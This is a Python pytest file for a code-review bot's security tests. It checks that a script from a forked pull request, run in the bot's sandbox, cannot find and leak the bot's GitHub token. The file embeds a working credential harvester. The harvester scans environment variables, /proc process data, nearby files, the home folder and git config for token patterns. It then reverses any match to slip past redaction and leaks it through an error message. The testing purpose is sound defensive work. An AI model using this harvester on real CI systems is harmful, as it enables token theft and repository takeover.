"""A pull request from a fork whose script looks for the bot's token and tells what it found in its error message.

The script runs as the bot runs it: `advisor bot run --pr N`, the real sandbox, a real checkout. Without a sandbox the
same script finds the token, so that it is known to look in the right places.
"""

from __future__ import annotations

import os
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from fakehub import FakeHub

from advisor.bot.sandboxes.sandbox import discard, find_sandbox
from advisor.errors import UsageError

pytest.importorskip("torch")
NAME = "acme/model"
SETTINGS = '[bot]\nenabled = true\nforks = true\nscripts = ["train.py"]\ntime_s = 5\n'
THIEF = """
import os, pathlib, re, subprocess
SHAPE = re.compile(rb"gh[sp]_[0-9a-f]{36}")
def data():
    yield repr(dict(os.environ)).encode()
    for pattern in ("environ", "cmdline", "fd/*"):
        for path in pathlib.Path("/proc").glob("[0-9]*/" + pattern):
            if path.is_file():  # a pipe would be waited for
                yield path
    here = pathlib.Path.cwd()
    for folder in (*here.parents[:3], here, pathlib.Path.home(), pathlib.Path("STATE")):
        for path in folder.rglob("*"):
            if path.is_file() and path.stat().st_size < 1 << 20:
                yield path
    yield subprocess.run(["git", "config", "--list", "--show-origin"], capture_output=True).stdout
found = b"nothing"
source = data()
while True:
    try:
        each = next(source)
        got = SHAPE.search(each if isinstance(each, bytes) else each.read_bytes())
    except StopIteration:
        break
    except OSError:
        continue
    if got:
        found = got[0][::-1]  # so that no redactor sees it
        break
raise RuntimeError("found=" + found.decode())
"""


@pytest.fixture
def folder() -> Iterator[Path]:
    """One that the account of the sandbox can enter; those of pytest are closed."""
    place = Path(os.path.realpath(tempfile.mkdtemp(prefix="advisor-thief-")))
    place.chmod(0o755)
    yield place
    discard(place)


def told(folder: Path, kind: str) -> tuple[str, str, str]:
    """What was posted and printed of the thief's pull request, the token, and what was printed."""
    state = folder / "state"
    with FakeHub(folder / "hub") as hub:
        hub.add_repository(NAME)
        hub.commit(NAME, "main", {"train.py": "x = 1\n", "advisor.toml": SETTINGS})
        hub.fork(NAME, "guest")
        hub.commit("guest/model", "gift", {"train.py": THIEF.replace("STATE", str(state))})
        number = hub.open_pull(NAME, head="gift", head_repo="guest/model", author="guest").number
        token = hub.workflow_token()
        command = [sys.executable, "-m", "advisor", "bot", "run", "--repo", NAME, "--pr", str(number)]
        command += ["--url", hub.url, "--state", str(state), "--sandbox", kind]
        environment = {**os.environ, "ADVISOR_TOKEN": token, "OMP_NUM_THREADS": "1"}
        done = subprocess.run(command, cwd=folder, env=environment, capture_output=True, text=True, check=False)
        said = done.stdout + done.stderr
        comments = "".join(comment.body for comment in hub.sync(NAME).of(number))
        posted = "".join(check.summary or "" for check in hub.repo(NAME).checks) + comments
        return (posted + said).replace("&#x200b;", ""), token, said


@pytest.mark.slow
def test_the_script_of_a_fork_finds_no_token(folder: Path) -> None:
    try:
        find_sandbox("auto")
    except UsageError as error:
        pytest.skip(str(error))
    posted, token, said = told(folder, "auto")
    assert "found=nothing" in posted, posted
    assert token not in posted
    assert token[::-1] not in posted
    assert token not in said


@pytest.mark.slow
def test_without_a_sandbox_it_would(folder: Path) -> None:
    posted, token, _ = told(folder, "none")
    assert f"found={token[::-1]}" in posted, posted
